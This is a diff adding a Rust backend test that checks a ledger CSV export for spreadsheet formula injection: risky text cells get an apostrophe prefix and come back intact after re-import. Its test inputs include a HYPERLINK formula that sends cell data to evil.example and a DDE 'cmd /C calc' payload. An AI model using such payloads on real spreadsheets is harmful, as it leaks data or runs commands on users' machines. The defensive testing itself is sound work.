@@ -522,3 +522,96 @@ backend_tests!(
     bad_rows_are_named_and_nothing_is_written,
     patrols_are_recorded_by_village_inspectors,
 );
+
+const FORMULA_NAME: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+
+/// A cell that a spreadsheet would run as a formula is exported with a leading `'`; the import takes it off
+/// again, so the ledger goes round unchanged.
+async fn ledger_cells_never_run_as_formulas(backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let v = app.setup_village().await;
+    let landlord = app.user(&v.admin, "landlord", Some(&v.id)).await;
+    let address = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let property = app
+        .post(
+            "/api/v1/properties",
+            Some(&landlord.token),
+            json!({"name": FORMULA_NAME, "address": address, "village_id": v.id, "kind": "apartment",
+                   "floors": 3, "floor_area_m2": 300.0}),
+        )
+        .await
+        .expect(201)
+        .body;
+    let pid = property["id"].as_str().unwrap();
+    app.post(
+        &format!("/api/v1/properties/{pid}/units"),
+        Some(&landlord.token),
+        json!({"label": "-1", "floor": -1, "area_m2": 20.0, "kind": "workshop"}),
+    )
+    .await
+    .expect(201);
+
+    let export = app
+        .get(&format!("/api/v1/reports/ledger.csv?village_id={}", v.id), Some(&v.admin.token))
+        .await
+        .expect(200);
+    let (header, rows) = csv_rows(&export.bytes);
+    let cell = |key: &str| {
+        let at = header.iter().position(|h| h.ends_with(&format!("({key})"))).unwrap();
+        rows[0][at].clone()
+    };
+    assert_eq!(cell("property_name"), format!("'{FORMULA_NAME}"));
+    assert_eq!(cell("address"), format!("'{address}"));
+    assert_eq!(cell("unit_label"), "'-1", "a text column is guarded");
+    assert_eq!(cell("unit_floor"), "-1", "a numeric column stays a number");
+    for row in &rows {
+        for value in row {
+            assert!(
+                !value.starts_with(['=', '+', '-', '@', '\t', '\r']) || value.parse::<f64>().is_ok(),
+                "{value}"
+            );
+        }
+    }
+
+    // Into a fresh database with the same village: the original text comes back.
+    let fresh = TestApp::start(backend).await;
+    let admin = fresh.admin().await;
+    let village = fresh
+        .post("/api/v1/villages", Some(&admin.token), json!({"name": "Again", "code": v.code}))
+        .await
+        .expect(201)
+        .body;
+    let vid = village["id"].as_str().unwrap();
+    let imported = fresh
+        .send_raw(
+            "POST",
+            &format!("/api/v1/imports/ledger?village_id={vid}"),
+            Some(&admin.token),
+            "text/csv",
+            export.bytes.clone(),
+        )
+        .await
+        .expect(200)
+        .body;
+    assert_eq!(imported["rejected"], json!([]));
+    assert_eq!(imported["committed"], true);
+    let properties = fresh
+        .get(&format!("/api/v1/properties?village_id={vid}"), Some(&admin.token))
+        .await
+        .expect(200)
+        .body;
+    let copy = &properties["items"][0];
+    assert_eq!(copy["name"], FORMULA_NAME);
+    assert_eq!(copy["address"], address);
+    let units = fresh
+        .get(
+            &format!("/api/v1/properties/{}/units", copy["id"].as_str().unwrap()),
+            Some(&admin.token),
+        )
+        .await
+        .expect(200)
+        .body;
+    assert_eq!((&units["items"][0]["label"], &units["items"][0]["floor"]), (&json!("-1"), &json!(-1)));
+}
+
+backend_tests!(ledger_cells_never_run_as_formulas);
